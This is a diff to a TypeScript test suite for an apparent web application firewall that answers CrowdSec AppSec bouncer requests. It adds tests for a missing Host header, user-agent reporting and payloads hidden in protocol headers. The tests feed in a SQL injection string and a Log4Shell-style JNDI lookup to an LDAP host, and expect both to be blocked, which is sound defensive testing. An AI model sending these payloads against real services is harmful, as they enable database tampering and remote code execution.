@@ -298,7 +298,7 @@ describe('who asks', () => {
     expect((await ask()).status).toBe(401)
   })
 
-  for (const name of ['Ip', 'Uri', 'Host', 'Verb'] as const) {
+  for (const name of ['Ip', 'Uri', 'Verb'] as const) {
     it(`gets 500 without X-Crowdsec-Appsec-${name}`, async () => {
       await start()
       const told = await ask(without(`X-Crowdsec-Appsec-${name}`))
@@ -319,6 +319,33 @@ describe('who asks', () => {
     const old = { 'X-Crowdsec-Appsec-Http-Version': '10', 'X-Crowdsec-Appsec-Host': [] }
     expect(await ask(old)).toEqual(pass)
     expect(accesses[0]?.head?.protocol).toBe('1.0')
+  })
+
+  it('is judged without host where the bouncer tells no version, and does not fail open', async () => {
+    await start()
+    const bare = { 'X-Crowdsec-Appsec-Http-Version': [], 'X-Crowdsec-Appsec-Host': [] }
+    expect(await ask(bare)).toEqual(pass)
+    expect(await ask({ ...bare, 'X-Crowdsec-Appsec-Uri': "/?id=1'%20OR%20'1'='1" })).toEqual(ban)
+    // HTTP/1.1 without host is malformed.
+    expect(await ask(without('X-Crowdsec-Appsec-Host'))).toEqual(ban)
+    expect(blocks.map(({ step, rule }) => (step === 'limits' ? rule : step))).toEqual(['waf', 'EDGE_HOST'])
+  })
+
+  it("is told of the client's user agent, and bots are known by that one", async () => {
+    await start({ inspection: null })
+    const bouncer = { 'User-Agent': 'a-bouncer/1.0' }
+    await ask({ ...bouncer, 'X-Crowdsec-Appsec-User-Agent': 'GPTBot/1.2' })
+    await ask({ ...bouncer, 'X-Crowdsec-Appsec-User-Agent': '' })
+    await ask({ ...bouncer, 'X-Crowdsec-Appsec-User-Agent': [] })
+    expect(accesses.map(({ head }) => head?.userAgent)).toEqual(['GPTBot/1.2', '', 'a-bouncer/1.0'])
+  })
+
+  it('judges headers of the client that only look like the protocol', async () => {
+    await start()
+    const hidden = '${jndi:ldap://192.0.2.1/a}'
+    for (const name of ['Nothing', 'Http-Version', 'Transaction-Id']) {
+      expect(await ask({ [`X-Crowdsec-Appsec-${name}`]: hidden }), name).toEqual(ban)
+    }
   })
 
   it('gets 500 for an address that is none', async () => {
